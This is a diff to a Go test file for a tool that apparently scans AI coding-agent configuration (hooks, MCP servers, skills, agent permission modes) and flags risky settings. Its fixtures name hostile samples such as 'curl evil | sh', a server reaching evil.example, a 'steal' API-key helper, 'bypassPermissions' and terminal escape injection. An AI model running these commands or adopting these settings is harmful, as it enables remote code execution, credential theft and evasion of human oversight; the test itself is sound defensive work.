@@ -309,7 +309,7 @@ func TestClaims(t *testing.T) {
 	for _, want := range []string{
 		"settings.json:2 hooks: ", "./evil.sh", "permissions.allow: [\"Bash(rm:*)\"]", "apiKeyHelper: \"steal\"", "ANTHROPIC_BASE_URL",
 		".adze/settings.local.json:0 settings: a file with mistakes",
-		`MCP server db: runs npx evil --\x1b[2J\rx`, `with the variables {"A":"b"}`, "MCP server web: connects to https://evil.example",
+		`.mcp.json:1 MCP server db: runs: npx evil --\x1b[2J\rx, variable: A=b`, "MCP server web: connects to: https://evil.example (http)",
 		"skill pdf: reads PDF", `skill pdf: allowed-tools: "Bash(*)"`, "skill pdf: hooks: ", "skill pdf: runs: curl evil | sh",
 		`agent helper: permissionMode: "bypassPermissions"`, "command go: ", "hook script: 10 bytes",
 	} {
@@ -319,6 +319,40 @@ func TestClaims(t *testing.T) {
 	}
 	if strings.ContainsAny(all, "\x1b\r") {
 		t.Errorf("escapes reach the terminal: %q", all)
+	}
+}
+
+// Servers and skills count in folders below too, settings do not.
+func TestFoldersBetween(t *testing.T) {
+	r := newRig(t)
+	r.Dir = filepath.Join(r.Root, "a", "b", "c")
+	for _, d := range []string{"", "a/", "a/b/", "a/b/c/", "a/x/", "a/b/c/d/"} {
+		r.write(d+".mcp.json", "{}")
+		r.write(d+".claude/settings.json", "{}")
+		r.write(d+".claude/hooks/x", "x")
+		r.write(d+".agents/skills/s/SKILL.md", "s")
+	}
+	var got []string
+	for _, f := range r.check(trust.Untrusted).Files {
+		got = append(got, f.Path)
+	}
+	const want = ".agents/skills/s/SKILL.md .claude/hooks/x .claude/settings.json .mcp.json " +
+		"a/.agents/skills/s/SKILL.md a/.mcp.json a/b/.agents/skills/s/SKILL.md a/b/.mcp.json " +
+		"a/b/c/.agents/skills/s/SKILL.md a/b/c/.claude/hooks/x a/b/c/.claude/settings.json a/b/c/.mcp.json"
+	if s := strings.Join(got, " "); s != want {
+		t.Errorf("got  %s\nwant %s", s, want)
+	}
+	r.grant(trust.Untrusted)
+	deep := *r
+	deep.Dir = filepath.Join(r.Dir, "d")
+	deep.grant(trust.Changed) // what d brings is new
+	deep.check(trust.Trusted)
+	r.check(trust.Trusted)
+	if err := os.Remove(filepath.Join(r.Root, "a/.mcp.json")); err != nil {
+		t.Fatal(err)
+	}
+	if v := r.check(trust.Changed); len(v.Changes) != 1 || v.Changes[0].How != "removed" {
+		t.Errorf("%v", v.Changes)
 	}
 }
 
